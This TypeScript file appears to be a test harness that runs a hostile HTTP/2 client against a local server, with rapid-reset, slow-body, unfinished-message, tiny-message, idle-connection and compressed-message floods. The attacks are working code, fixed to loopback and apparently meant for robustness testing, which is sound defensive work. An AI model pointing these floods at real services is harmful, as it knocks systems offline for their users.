// A hostile client as a process of its own: `node attacker.ts '{"port":…,"attack":"rapid-reset","seconds":5}'`.
// Loopback only.
import { connect, type Socket } from 'node:net';
import {
  data,
  frame,
  headers,
  message,
  PREFACE,
  requestFields,
  reset,
  settings,
  u32,
} from '../../test/ingress/http2/frames.ts';

export const ATTACKS = [
  'unfinished-messages',
  'rapid-reset',
  'tiny-messages',
  'slow-bodies',
  'silent-connections',
  'compressed-messages',
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface AttackOptions {
  readonly port: number;
  readonly attack: Attack;
  readonly seconds: number;
}

/** Streams of 4 MiB less one byte, as many as once filled 3.7 GB. */
const UNFINISHED_STREAMS = 889;
const UNFINISHED_BYTES = 4 * 1024 * 1024 - 1;
const FRAME_BYTES = 16_384;
const SLOW_STREAMS = 2_000;
const SILENT_CONNECTIONS = 1_000;
const BATCH = 200;
const PAUSE_MS = 1;

/** A connection that writes as fast as it is read, and comes again when it is closed. */
class HostileConnection {
  readonly #port: number;
  #socket: Socket | undefined;
  #next = 1;

  constructor(port: number) {
    this.#port = port;
  }

  async open(): Promise<void> {
    const socket = connect({ port: this.#port, host: '127.0.0.1', noDelay: true });
    this.#socket = socket;
    this.#next = 1;
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    socket.on('close', () => {
      this.#socket = undefined;
    });
    await new Promise((resolve) => socket.once('connect', resolve));
    socket.write(Buffer.concat([PREFACE, settings()]));
  }

  stream(): number {
    const id = this.#next;
    this.#next += 2;
    return id;
  }

  async write(make: () => Buffer): Promise<void> {
    if (this.#socket === undefined) await this.open();
    const socket = this.#socket;
    if (socket === undefined) return;
    if (socket.write(make())) return pause(0);
    await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), pause(100)]);
  }
}

function pause(ms: number): Promise<void> {
  return new Promise((resolve) => (ms === 0 ? setImmediate(resolve) : setTimeout(resolve, ms)));
}

function batch(make: () => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, make));
}

async function unfinishedMessages(connection: HostileConnection, goesOn: () => boolean): Promise<void> {
  const first = Buffer.concat([Buffer.from([0]), u32(UNFINISHED_BYTES)]);
  const ids = Array.from({ length: UNFINISHED_STREAMS }, () => connection.stream());
  for (const id of ids) await connection.write(() => Buffer.concat([headers(id), data(id, first)]));
  for (let sent = 0; sent < UNFINISHED_BYTES && goesOn(); sent += FRAME_BYTES) {
    for (const id of ids) if (goesOn()) await connection.write(() => data(id, Buffer.alloc(FRAME_BYTES)));
  }
}

async function slowBodies(connection: HostileConnection, goesOn: () => boolean): Promise<void> {
  const ids = Array.from({ length: SLOW_STREAMS }, () => connection.stream());
  const first = Buffer.concat([Buffer.from([0]), u32(100_000)]);
  for (const id of ids) await connection.write(() => Buffer.concat([headers(id), data(id, first)]));
  while (goesOn()) {
    await connection.write(() => Buffer.concat(ids.map((id) => data(id, Buffer.from('x')))));
    await pause(1_000);
  }
}

const COMPRESSED = requestFields([['grpc-encoding', 'gzip']]);
const LOOPS: Readonly<Partial<Record<Attack, (connection: HostileConnection) => Buffer>>> = {
  'rapid-reset': (connection) =>
    batch(() => {
      const id = connection.stream();
      return Buffer.concat([headers(id), reset(id)]);
    }),
  'compressed-messages': (connection) =>
    batch(() => {
      const id = connection.stream();
      return Buffer.concat([headers(id, 0, COMPRESSED), frame('DATA', 0, id, message(Buffer.alloc(64), 1))]);
    }),
};

/** One stream of messages of one byte. */
async function tinyMessages(connection: HostileConnection, goesOn: () => boolean): Promise<void> {
  const id = connection.stream();
  await connection.write(() => headers(id));
  while (goesOn()) await connection.write(() => batch(() => data(id, message('\0'))));
}

async function attack({ port, attack: name, seconds }: AttackOptions): Promise<void> {
  const end = performance.now() + seconds * 1_000;
  const goesOn = (): boolean => performance.now() < end;
  if (name === 'silent-connections') {
    for (let i = 0; i < SILENT_CONNECTIONS; i++) connect({ port, host: '127.0.0.1' }).on('error', () => undefined);
    return pause(end - performance.now());
  }
  const connection = new HostileConnection(port);
  await connection.open();
  if (name === 'unfinished-messages') await unfinishedMessages(connection, goesOn);
  else if (name === 'slow-bodies') await slowBodies(connection, goesOn);
  else if (name === 'tiny-messages') await tinyMessages(connection, goesOn);
  while (goesOn()) {
    const next = LOOPS[name];
    if (next === undefined) await pause(PAUSE_MS);
    else await connection.write(() => next(connection));
  }
}

if (process.argv[1] === import.meta.filename) {
  await attack(JSON.parse(process.argv[2]!) as AttackOptions);
  process.exit();
}
